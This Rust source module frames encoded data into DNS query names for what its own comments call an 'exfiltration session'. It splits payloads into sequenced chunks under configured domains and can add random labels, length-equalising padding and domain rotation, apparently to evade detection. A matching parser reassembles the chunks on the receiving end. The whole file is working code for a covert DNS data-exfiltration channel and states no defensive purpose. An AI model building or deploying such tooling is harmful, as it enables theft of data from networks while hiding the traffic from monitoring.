//! Chunking and QNAME framing: encoded payloads are split into fixed-size
//! chunks, each carried in the labels of one FQDN under a configured domain.
//!
//! Label grammar (normative): the first label is
//! `<session:8 digits>-<seq:4 digits>-<total:4 digits>-<data prefix>`;
//! data overflowing the 63-octet first label continues in plain labels of up
//! to 63 octets each. An optional random label (`x` + 7 alphanumerics) and an
//! optional pad label (`p` + zero filler) follow the data labels, then the
//! domain suffix. Because the header fields are fixed width, data may itself
//! contain `-` without ambiguity.

use rand::Rng;

pub const MAX_LABEL: usize = 63;
/// Presentation-form FQDN limit; keeps the wire form within 255 octets.
pub const MAX_FQDN: usize = 253;
/// `<8>-<4>-<4>-` header occupies this many octets of the first label.
pub const HEADER_LEN: usize = 19;
/// Data octets that fit in the first label next to the header.
pub const FIRST_LABEL_DATA: usize = MAX_LABEL - HEADER_LEN;
pub const MAX_CHUNKS: usize = 9999;
const RANDOM_LABEL_LEN: usize = 8;

/// One chunk of an exfiltration session, addressed by sequence number.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChunkEnvelope {
    /// Exactly 8 decimal digits.
    pub session_id: String,
    /// 0-based; rendered as 4 zero-padded digits.
    pub seq: u16,
    pub total: u16,
    pub data: String,
}

/// How chunks are laid out into FQDNs.
#[derive(Debug, Clone)]
pub struct FramingConfig {
    /// Encoded characters per chunk.
    pub chunk_size: usize,
    pub padding: bool,
    pub subdomain_randomization: bool,
    pub target_domains: Vec<String>,
    pub domain_rotation: bool,
}

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum ChunkError {
    #[error("payload needs {needed} chunks, the 4-digit sequence caps a session at {MAX_CHUNKS}")]
    ChunkCountOverflow { needed: usize },
    #[error("framing cannot fit in a {MAX_FQDN}-octet FQDN; maximum feasible chunk_size is {max_chunk_size}")]
    FqdnOverflow { max_chunk_size: usize },
    #[error("malformed chunk header: {0}")]
    MalformedHeader(String),
}

/// Split encoded text into chunks of `chunk_size` characters; the last chunk
/// may be shorter. Empty input yields no chunks.
pub fn split(encoded: &str, chunk_size: usize) -> Result<Vec<String>, ChunkError> {
    assert!(chunk_size >= 1, "chunk_size must be at least 1");
    if encoded.is_empty() {
        return Ok(Vec::new());
    }
    let needed = encoded.len().div_ceil(chunk_size);
    if needed > MAX_CHUNKS {
        return Err(ChunkError::ChunkCountOverflow { needed });
    }
    Ok(encoded
        .as_bytes()
        .chunks(chunk_size)
        .map(|c| String::from_utf8(c.to_vec()).expect("encoded text is ASCII"))
        .collect())
}

/// Lay out `data_len` chunk characters into label lengths (header label first).
fn data_label_lens(data_len: usize) -> Vec<usize> {
    let first = data_len.min(FIRST_LABEL_DATA);
    let mut lens = vec![HEADER_LEN + first];
    let mut rest = data_len - first;
    while rest > 0 {
        let take = rest.min(MAX_LABEL);
        lens.push(take);
        rest -= take;
    }
    lens
}

/// Presentation length of the FQDN for a chunk of `data_len` characters,
/// before any pad label.
fn unpadded_len(data_len: usize, cfg: &FramingConfig, domain: &str) -> usize {
    let labels = data_label_lens(data_len);
    let mut len: usize = labels.iter().sum::<usize>() + labels.len() - 1;
    if cfg.subdomain_randomization {
        len += 1 + RANDOM_LABEL_LEN;
    }
    len + 1 + domain.len()
}

/// Equalized FQDN length when padding is on: the longest unpadded FQDN of the
/// session (a full chunk under the longest domain) plus the minimal `.p`.
fn pad_target(cfg: &FramingConfig) -> usize {
    cfg.target_domains
        .iter()
        .map(|d| unpadded_len(cfg.chunk_size, cfg, d))
        .max()
        .expect("target_domains is non-empty")
        + 2
}

fn framing_feasible(cfg: &FramingConfig) -> bool {
    if cfg.padding {
        let target = pad_target(cfg);
        if target > MAX_FQDN {
            return false;
        }
        // The shortest possible chunk (one character) must still reach the
        // target with a single pad label of at most 63 octets.
        cfg.target_domains
            .iter()
            .all(|d| target.saturating_sub(unpadded_len(1, cfg, d)) - 1 <= MAX_LABEL)
    } else {
        cfg.target_domains
            .iter()
            .all(|d| unpadded_len(cfg.chunk_size, cfg, d) <= MAX_FQDN)
    }
}

/// Check at session setup that every chunk this configuration can produce
/// fits the label and FQDN limits; reports the largest workable chunk_size
/// otherwise.
pub fn validate_framing(cfg: &FramingConfig) -> Result<(), ChunkError> {
    if framing_feasible(cfg) {
        return Ok(());
    }
    let mut probe = cfg.clone();
    let max_chunk_size = (1..cfg.chunk_size)
        .rev()
        .find(|&cs| {
            probe.chunk_size = cs;
            framing_feasible(&probe)
        })
        .unwrap_or(0);
    Err(ChunkError::FqdnOverflow { max_chunk_size })
}

/// Frame one envelope into an FQDN under `cfg.target_domains[domain_index]`.
pub fn frame(
    env: &ChunkEnvelope,
    cfg: &FramingConfig,
    domain_index: usize,
    rng: &mut impl Rng,
) -> Result<String, ChunkError> {
    validate_framing(cfg)?;
    let domain = &cfg.target_domains[domain_index];
    let mut labels = Vec::new();
    let header = format!(
        "{}-{:04}-{:04}-",
        env.session_id, env.seq, env.total
    );
    let data = env.data.as_bytes();
    let first = data.len().min(FIRST_LABEL_DATA);
    labels.push(format!("{header}{}", &env.data[..first]));
    for cont in data[first..].chunks(MAX_LABEL) {
        labels.push(String::from_utf8(cont.to_vec()).expect("encoded text is ASCII"));
    }
    if cfg.subdomain_randomization {
        labels.push(random_label(rng));
    }
    if cfg.padding {
        let have = labels.iter().map(String::len).sum::<usize>() + labels.len() - 1
            + 1
            + domain.len();
        let target = pad_target(cfg);
        let pad_len = target
            .checked_sub(have + 1)
            .filter(|len| (1..=MAX_LABEL).contains(len))
            .ok_or_else(|| {
                let max_chunk_size = match validate_framing(cfg) {
                    Err(ChunkError::FqdnOverflow { max_chunk_size }) => max_chunk_size,
                    _ => cfg.chunk_size,
                };
                ChunkError::FqdnOverflow { max_chunk_size }
            })?;
        labels.push(format!("p{}", "0".repeat(pad_len - 1)));
    }
    labels.push(domain.clone());
    let fqdn = labels.join(".");
    if fqdn.len() > MAX_FQDN {
        return Err(ChunkError::FqdnOverflow {
            max_chunk_size: match validate_framing(cfg) {
                Err(ChunkError::FqdnOverflow { max_chunk_size }) => max_chunk_size,
                _ => 0,
            },
        });
    }
    Ok(fqdn)
}

fn random_label(rng: &mut impl Rng) -> String {
    const ALPHANUMERIC: &[u8] =
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let tail: String = (0..RANDOM_LABEL_LEN - 1)
        .map(|_| ALPHANUMERIC[rng.gen_range(0..ALPHANUMERIC.len())] as char)
        .collect();
    format!("x{tail}")
}

fn is_pad_label(label: &str) -> bool {
    let mut chars = label.chars();
    chars.next() == Some('p') && chars.all(|c| c == '0')
}

fn is_random_label(label: &str) -> bool {
    label.len() == RANDOM_LABEL_LEN
        && label.starts_with('x')
        && label[1..].chars().all(|c| c.is_ascii_alphanumeric())
}

/// Inverse of [`frame`]: recognizes FQDNs under the configured domains and
/// recovers the envelope, or `None` for ordinary queries.
pub fn parse(fqdn: &str, cfg: &FramingConfig) -> Result<Option<ChunkEnvelope>, ChunkError> {
    let Some(prefix) = cfg.target_domains.iter().find_map(|d| {
        fqdn.strip_suffix(d.as_str())
            .and_then(|p| p.strip_suffix('.'))
    }) else {
        return Ok(None);
    };
    let mut labels: Vec<&str> = prefix.split('.').collect();
    if cfg.padding {
        match labels.pop() {
            Some(l) if is_pad_label(l) => {}
            _ => return Ok(None),
        }
    }
    if cfg.subdomain_randomization {
        match labels.pop() {
            Some(l) if is_random_label(l) => {}
            _ => return Ok(None),
        }
    }
    if labels.is_empty() {
        return Ok(None);
    }
    let first = labels[0];
    if first.len() < HEADER_LEN || !header_shape_ok(first) {
        return Ok(None);
    }
    let session_id = first[..8].to_string();
    let seq: u16 = first[9..13].parse().expect("checked digits");
    let total: u16 = first[14..18].parse().expect("checked digits");
    if total == 0 || seq >= total {
        return Err(ChunkError::MalformedHeader(format!(
            "seq {seq} out of range for total {total}"
        )));
    }
    let mut data = first[HEADER_LEN..].to_string();
    for label in &labels[1..] {
        data.push_str(label);
    }
    Ok(Some(ChunkEnvelope {
        session_id,
        seq,
        total,
        data,
    }))
}

fn header_shape_ok(label: &str) -> bool {
    let b = label.as_bytes();
    b[..8].iter().all(u8::is_ascii_digit)
        && b[8] == b'-'
        && b[9..13].iter().all(u8::is_ascii_digit)
        && b[13] == b'-'
        && b[14..18].iter().all(u8::is_ascii_digit)
        && b[18] == b'-'
}

/// First 8 decimal digits of the epoch second count.
pub fn new_session_id(epoch_seconds: u64) -> String {
    debug_assert!(epoch_seconds >= 10_000_000);
    let digits = epoch_seconds.to_string();
    digits[..8.min(digits.len())].to_string()
}
